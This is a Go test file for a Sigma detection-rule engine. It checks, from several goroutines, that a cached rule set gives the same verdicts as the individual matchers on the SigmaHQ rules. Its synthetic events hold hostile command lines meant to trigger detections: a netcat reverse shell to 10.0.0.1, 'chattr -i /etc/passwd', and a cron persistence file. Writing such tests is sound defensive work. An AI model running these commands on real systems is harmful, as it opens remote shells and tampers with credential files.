package sigma

import (
	"sync"
	"testing"
)

// TestSetAgreesWithMatchers checks the shared-cache Set gives exactly the
// verdicts of each matcher alone, on the SigmaHQ set, from many goroutines.
func TestSetAgreesWithMatchers(t *testing.T) {
	rules, errs := LoadDir(sharedDir(t))
	rep := Report(rules, errs, CompileOptions{Placeholders: map[string][]string{}})
	set := NewSet(rep.Matchers)
	events := []MapEvent{
		syntheticProcessCreation(),
		{Fields: map[string]any{"Image": "/usr/bin/base64", "CommandLine": "base64 -d /tmp/x", "ParentImage": "/bin/sh"}, Text: []string{"base64 -d /tmp/x"}},
		{Fields: map[string]any{"type": "EXECVE", "a0": "chattr", "a1": "-i", "a2": "/etc/passwd"}, Text: []string{"chattr -i /etc/passwd"}},
		{Fields: map[string]any{"TargetFilename": "/etc/cron.d/evil", "Image": "/usr/bin/vi"}},
		{Fields: map[string]any{"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}, Text: []string{"nc -e /bin/sh 10.0.0.1 4444"}},
	}
	total := 0
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, ev := range events {
				var want []*Matcher
				for _, m := range rep.Matchers {
					if m.Match(ev) {
						want = append(want, m)
					}
				}
				got := set.Match(ev, nil)
				if len(got) != len(want) {
					t.Errorf("set matched %d rules, matchers %d", len(got), len(want))
					return
				}
				for j := range got {
					if got[j] != want[j] {
						t.Errorf("set verdict differs at %d: %s vs %s", j, got[j].Rule.Title, want[j].Rule.Title)
					}
				}
			}
		}()
	}
	wg.Wait()
	for _, ev := range events {
		total += len(set.Match(ev, nil))
	}
	if total < 3 {
		t.Fatalf("only %d SigmaHQ rules fired on events built to trigger them", total)
	}
}
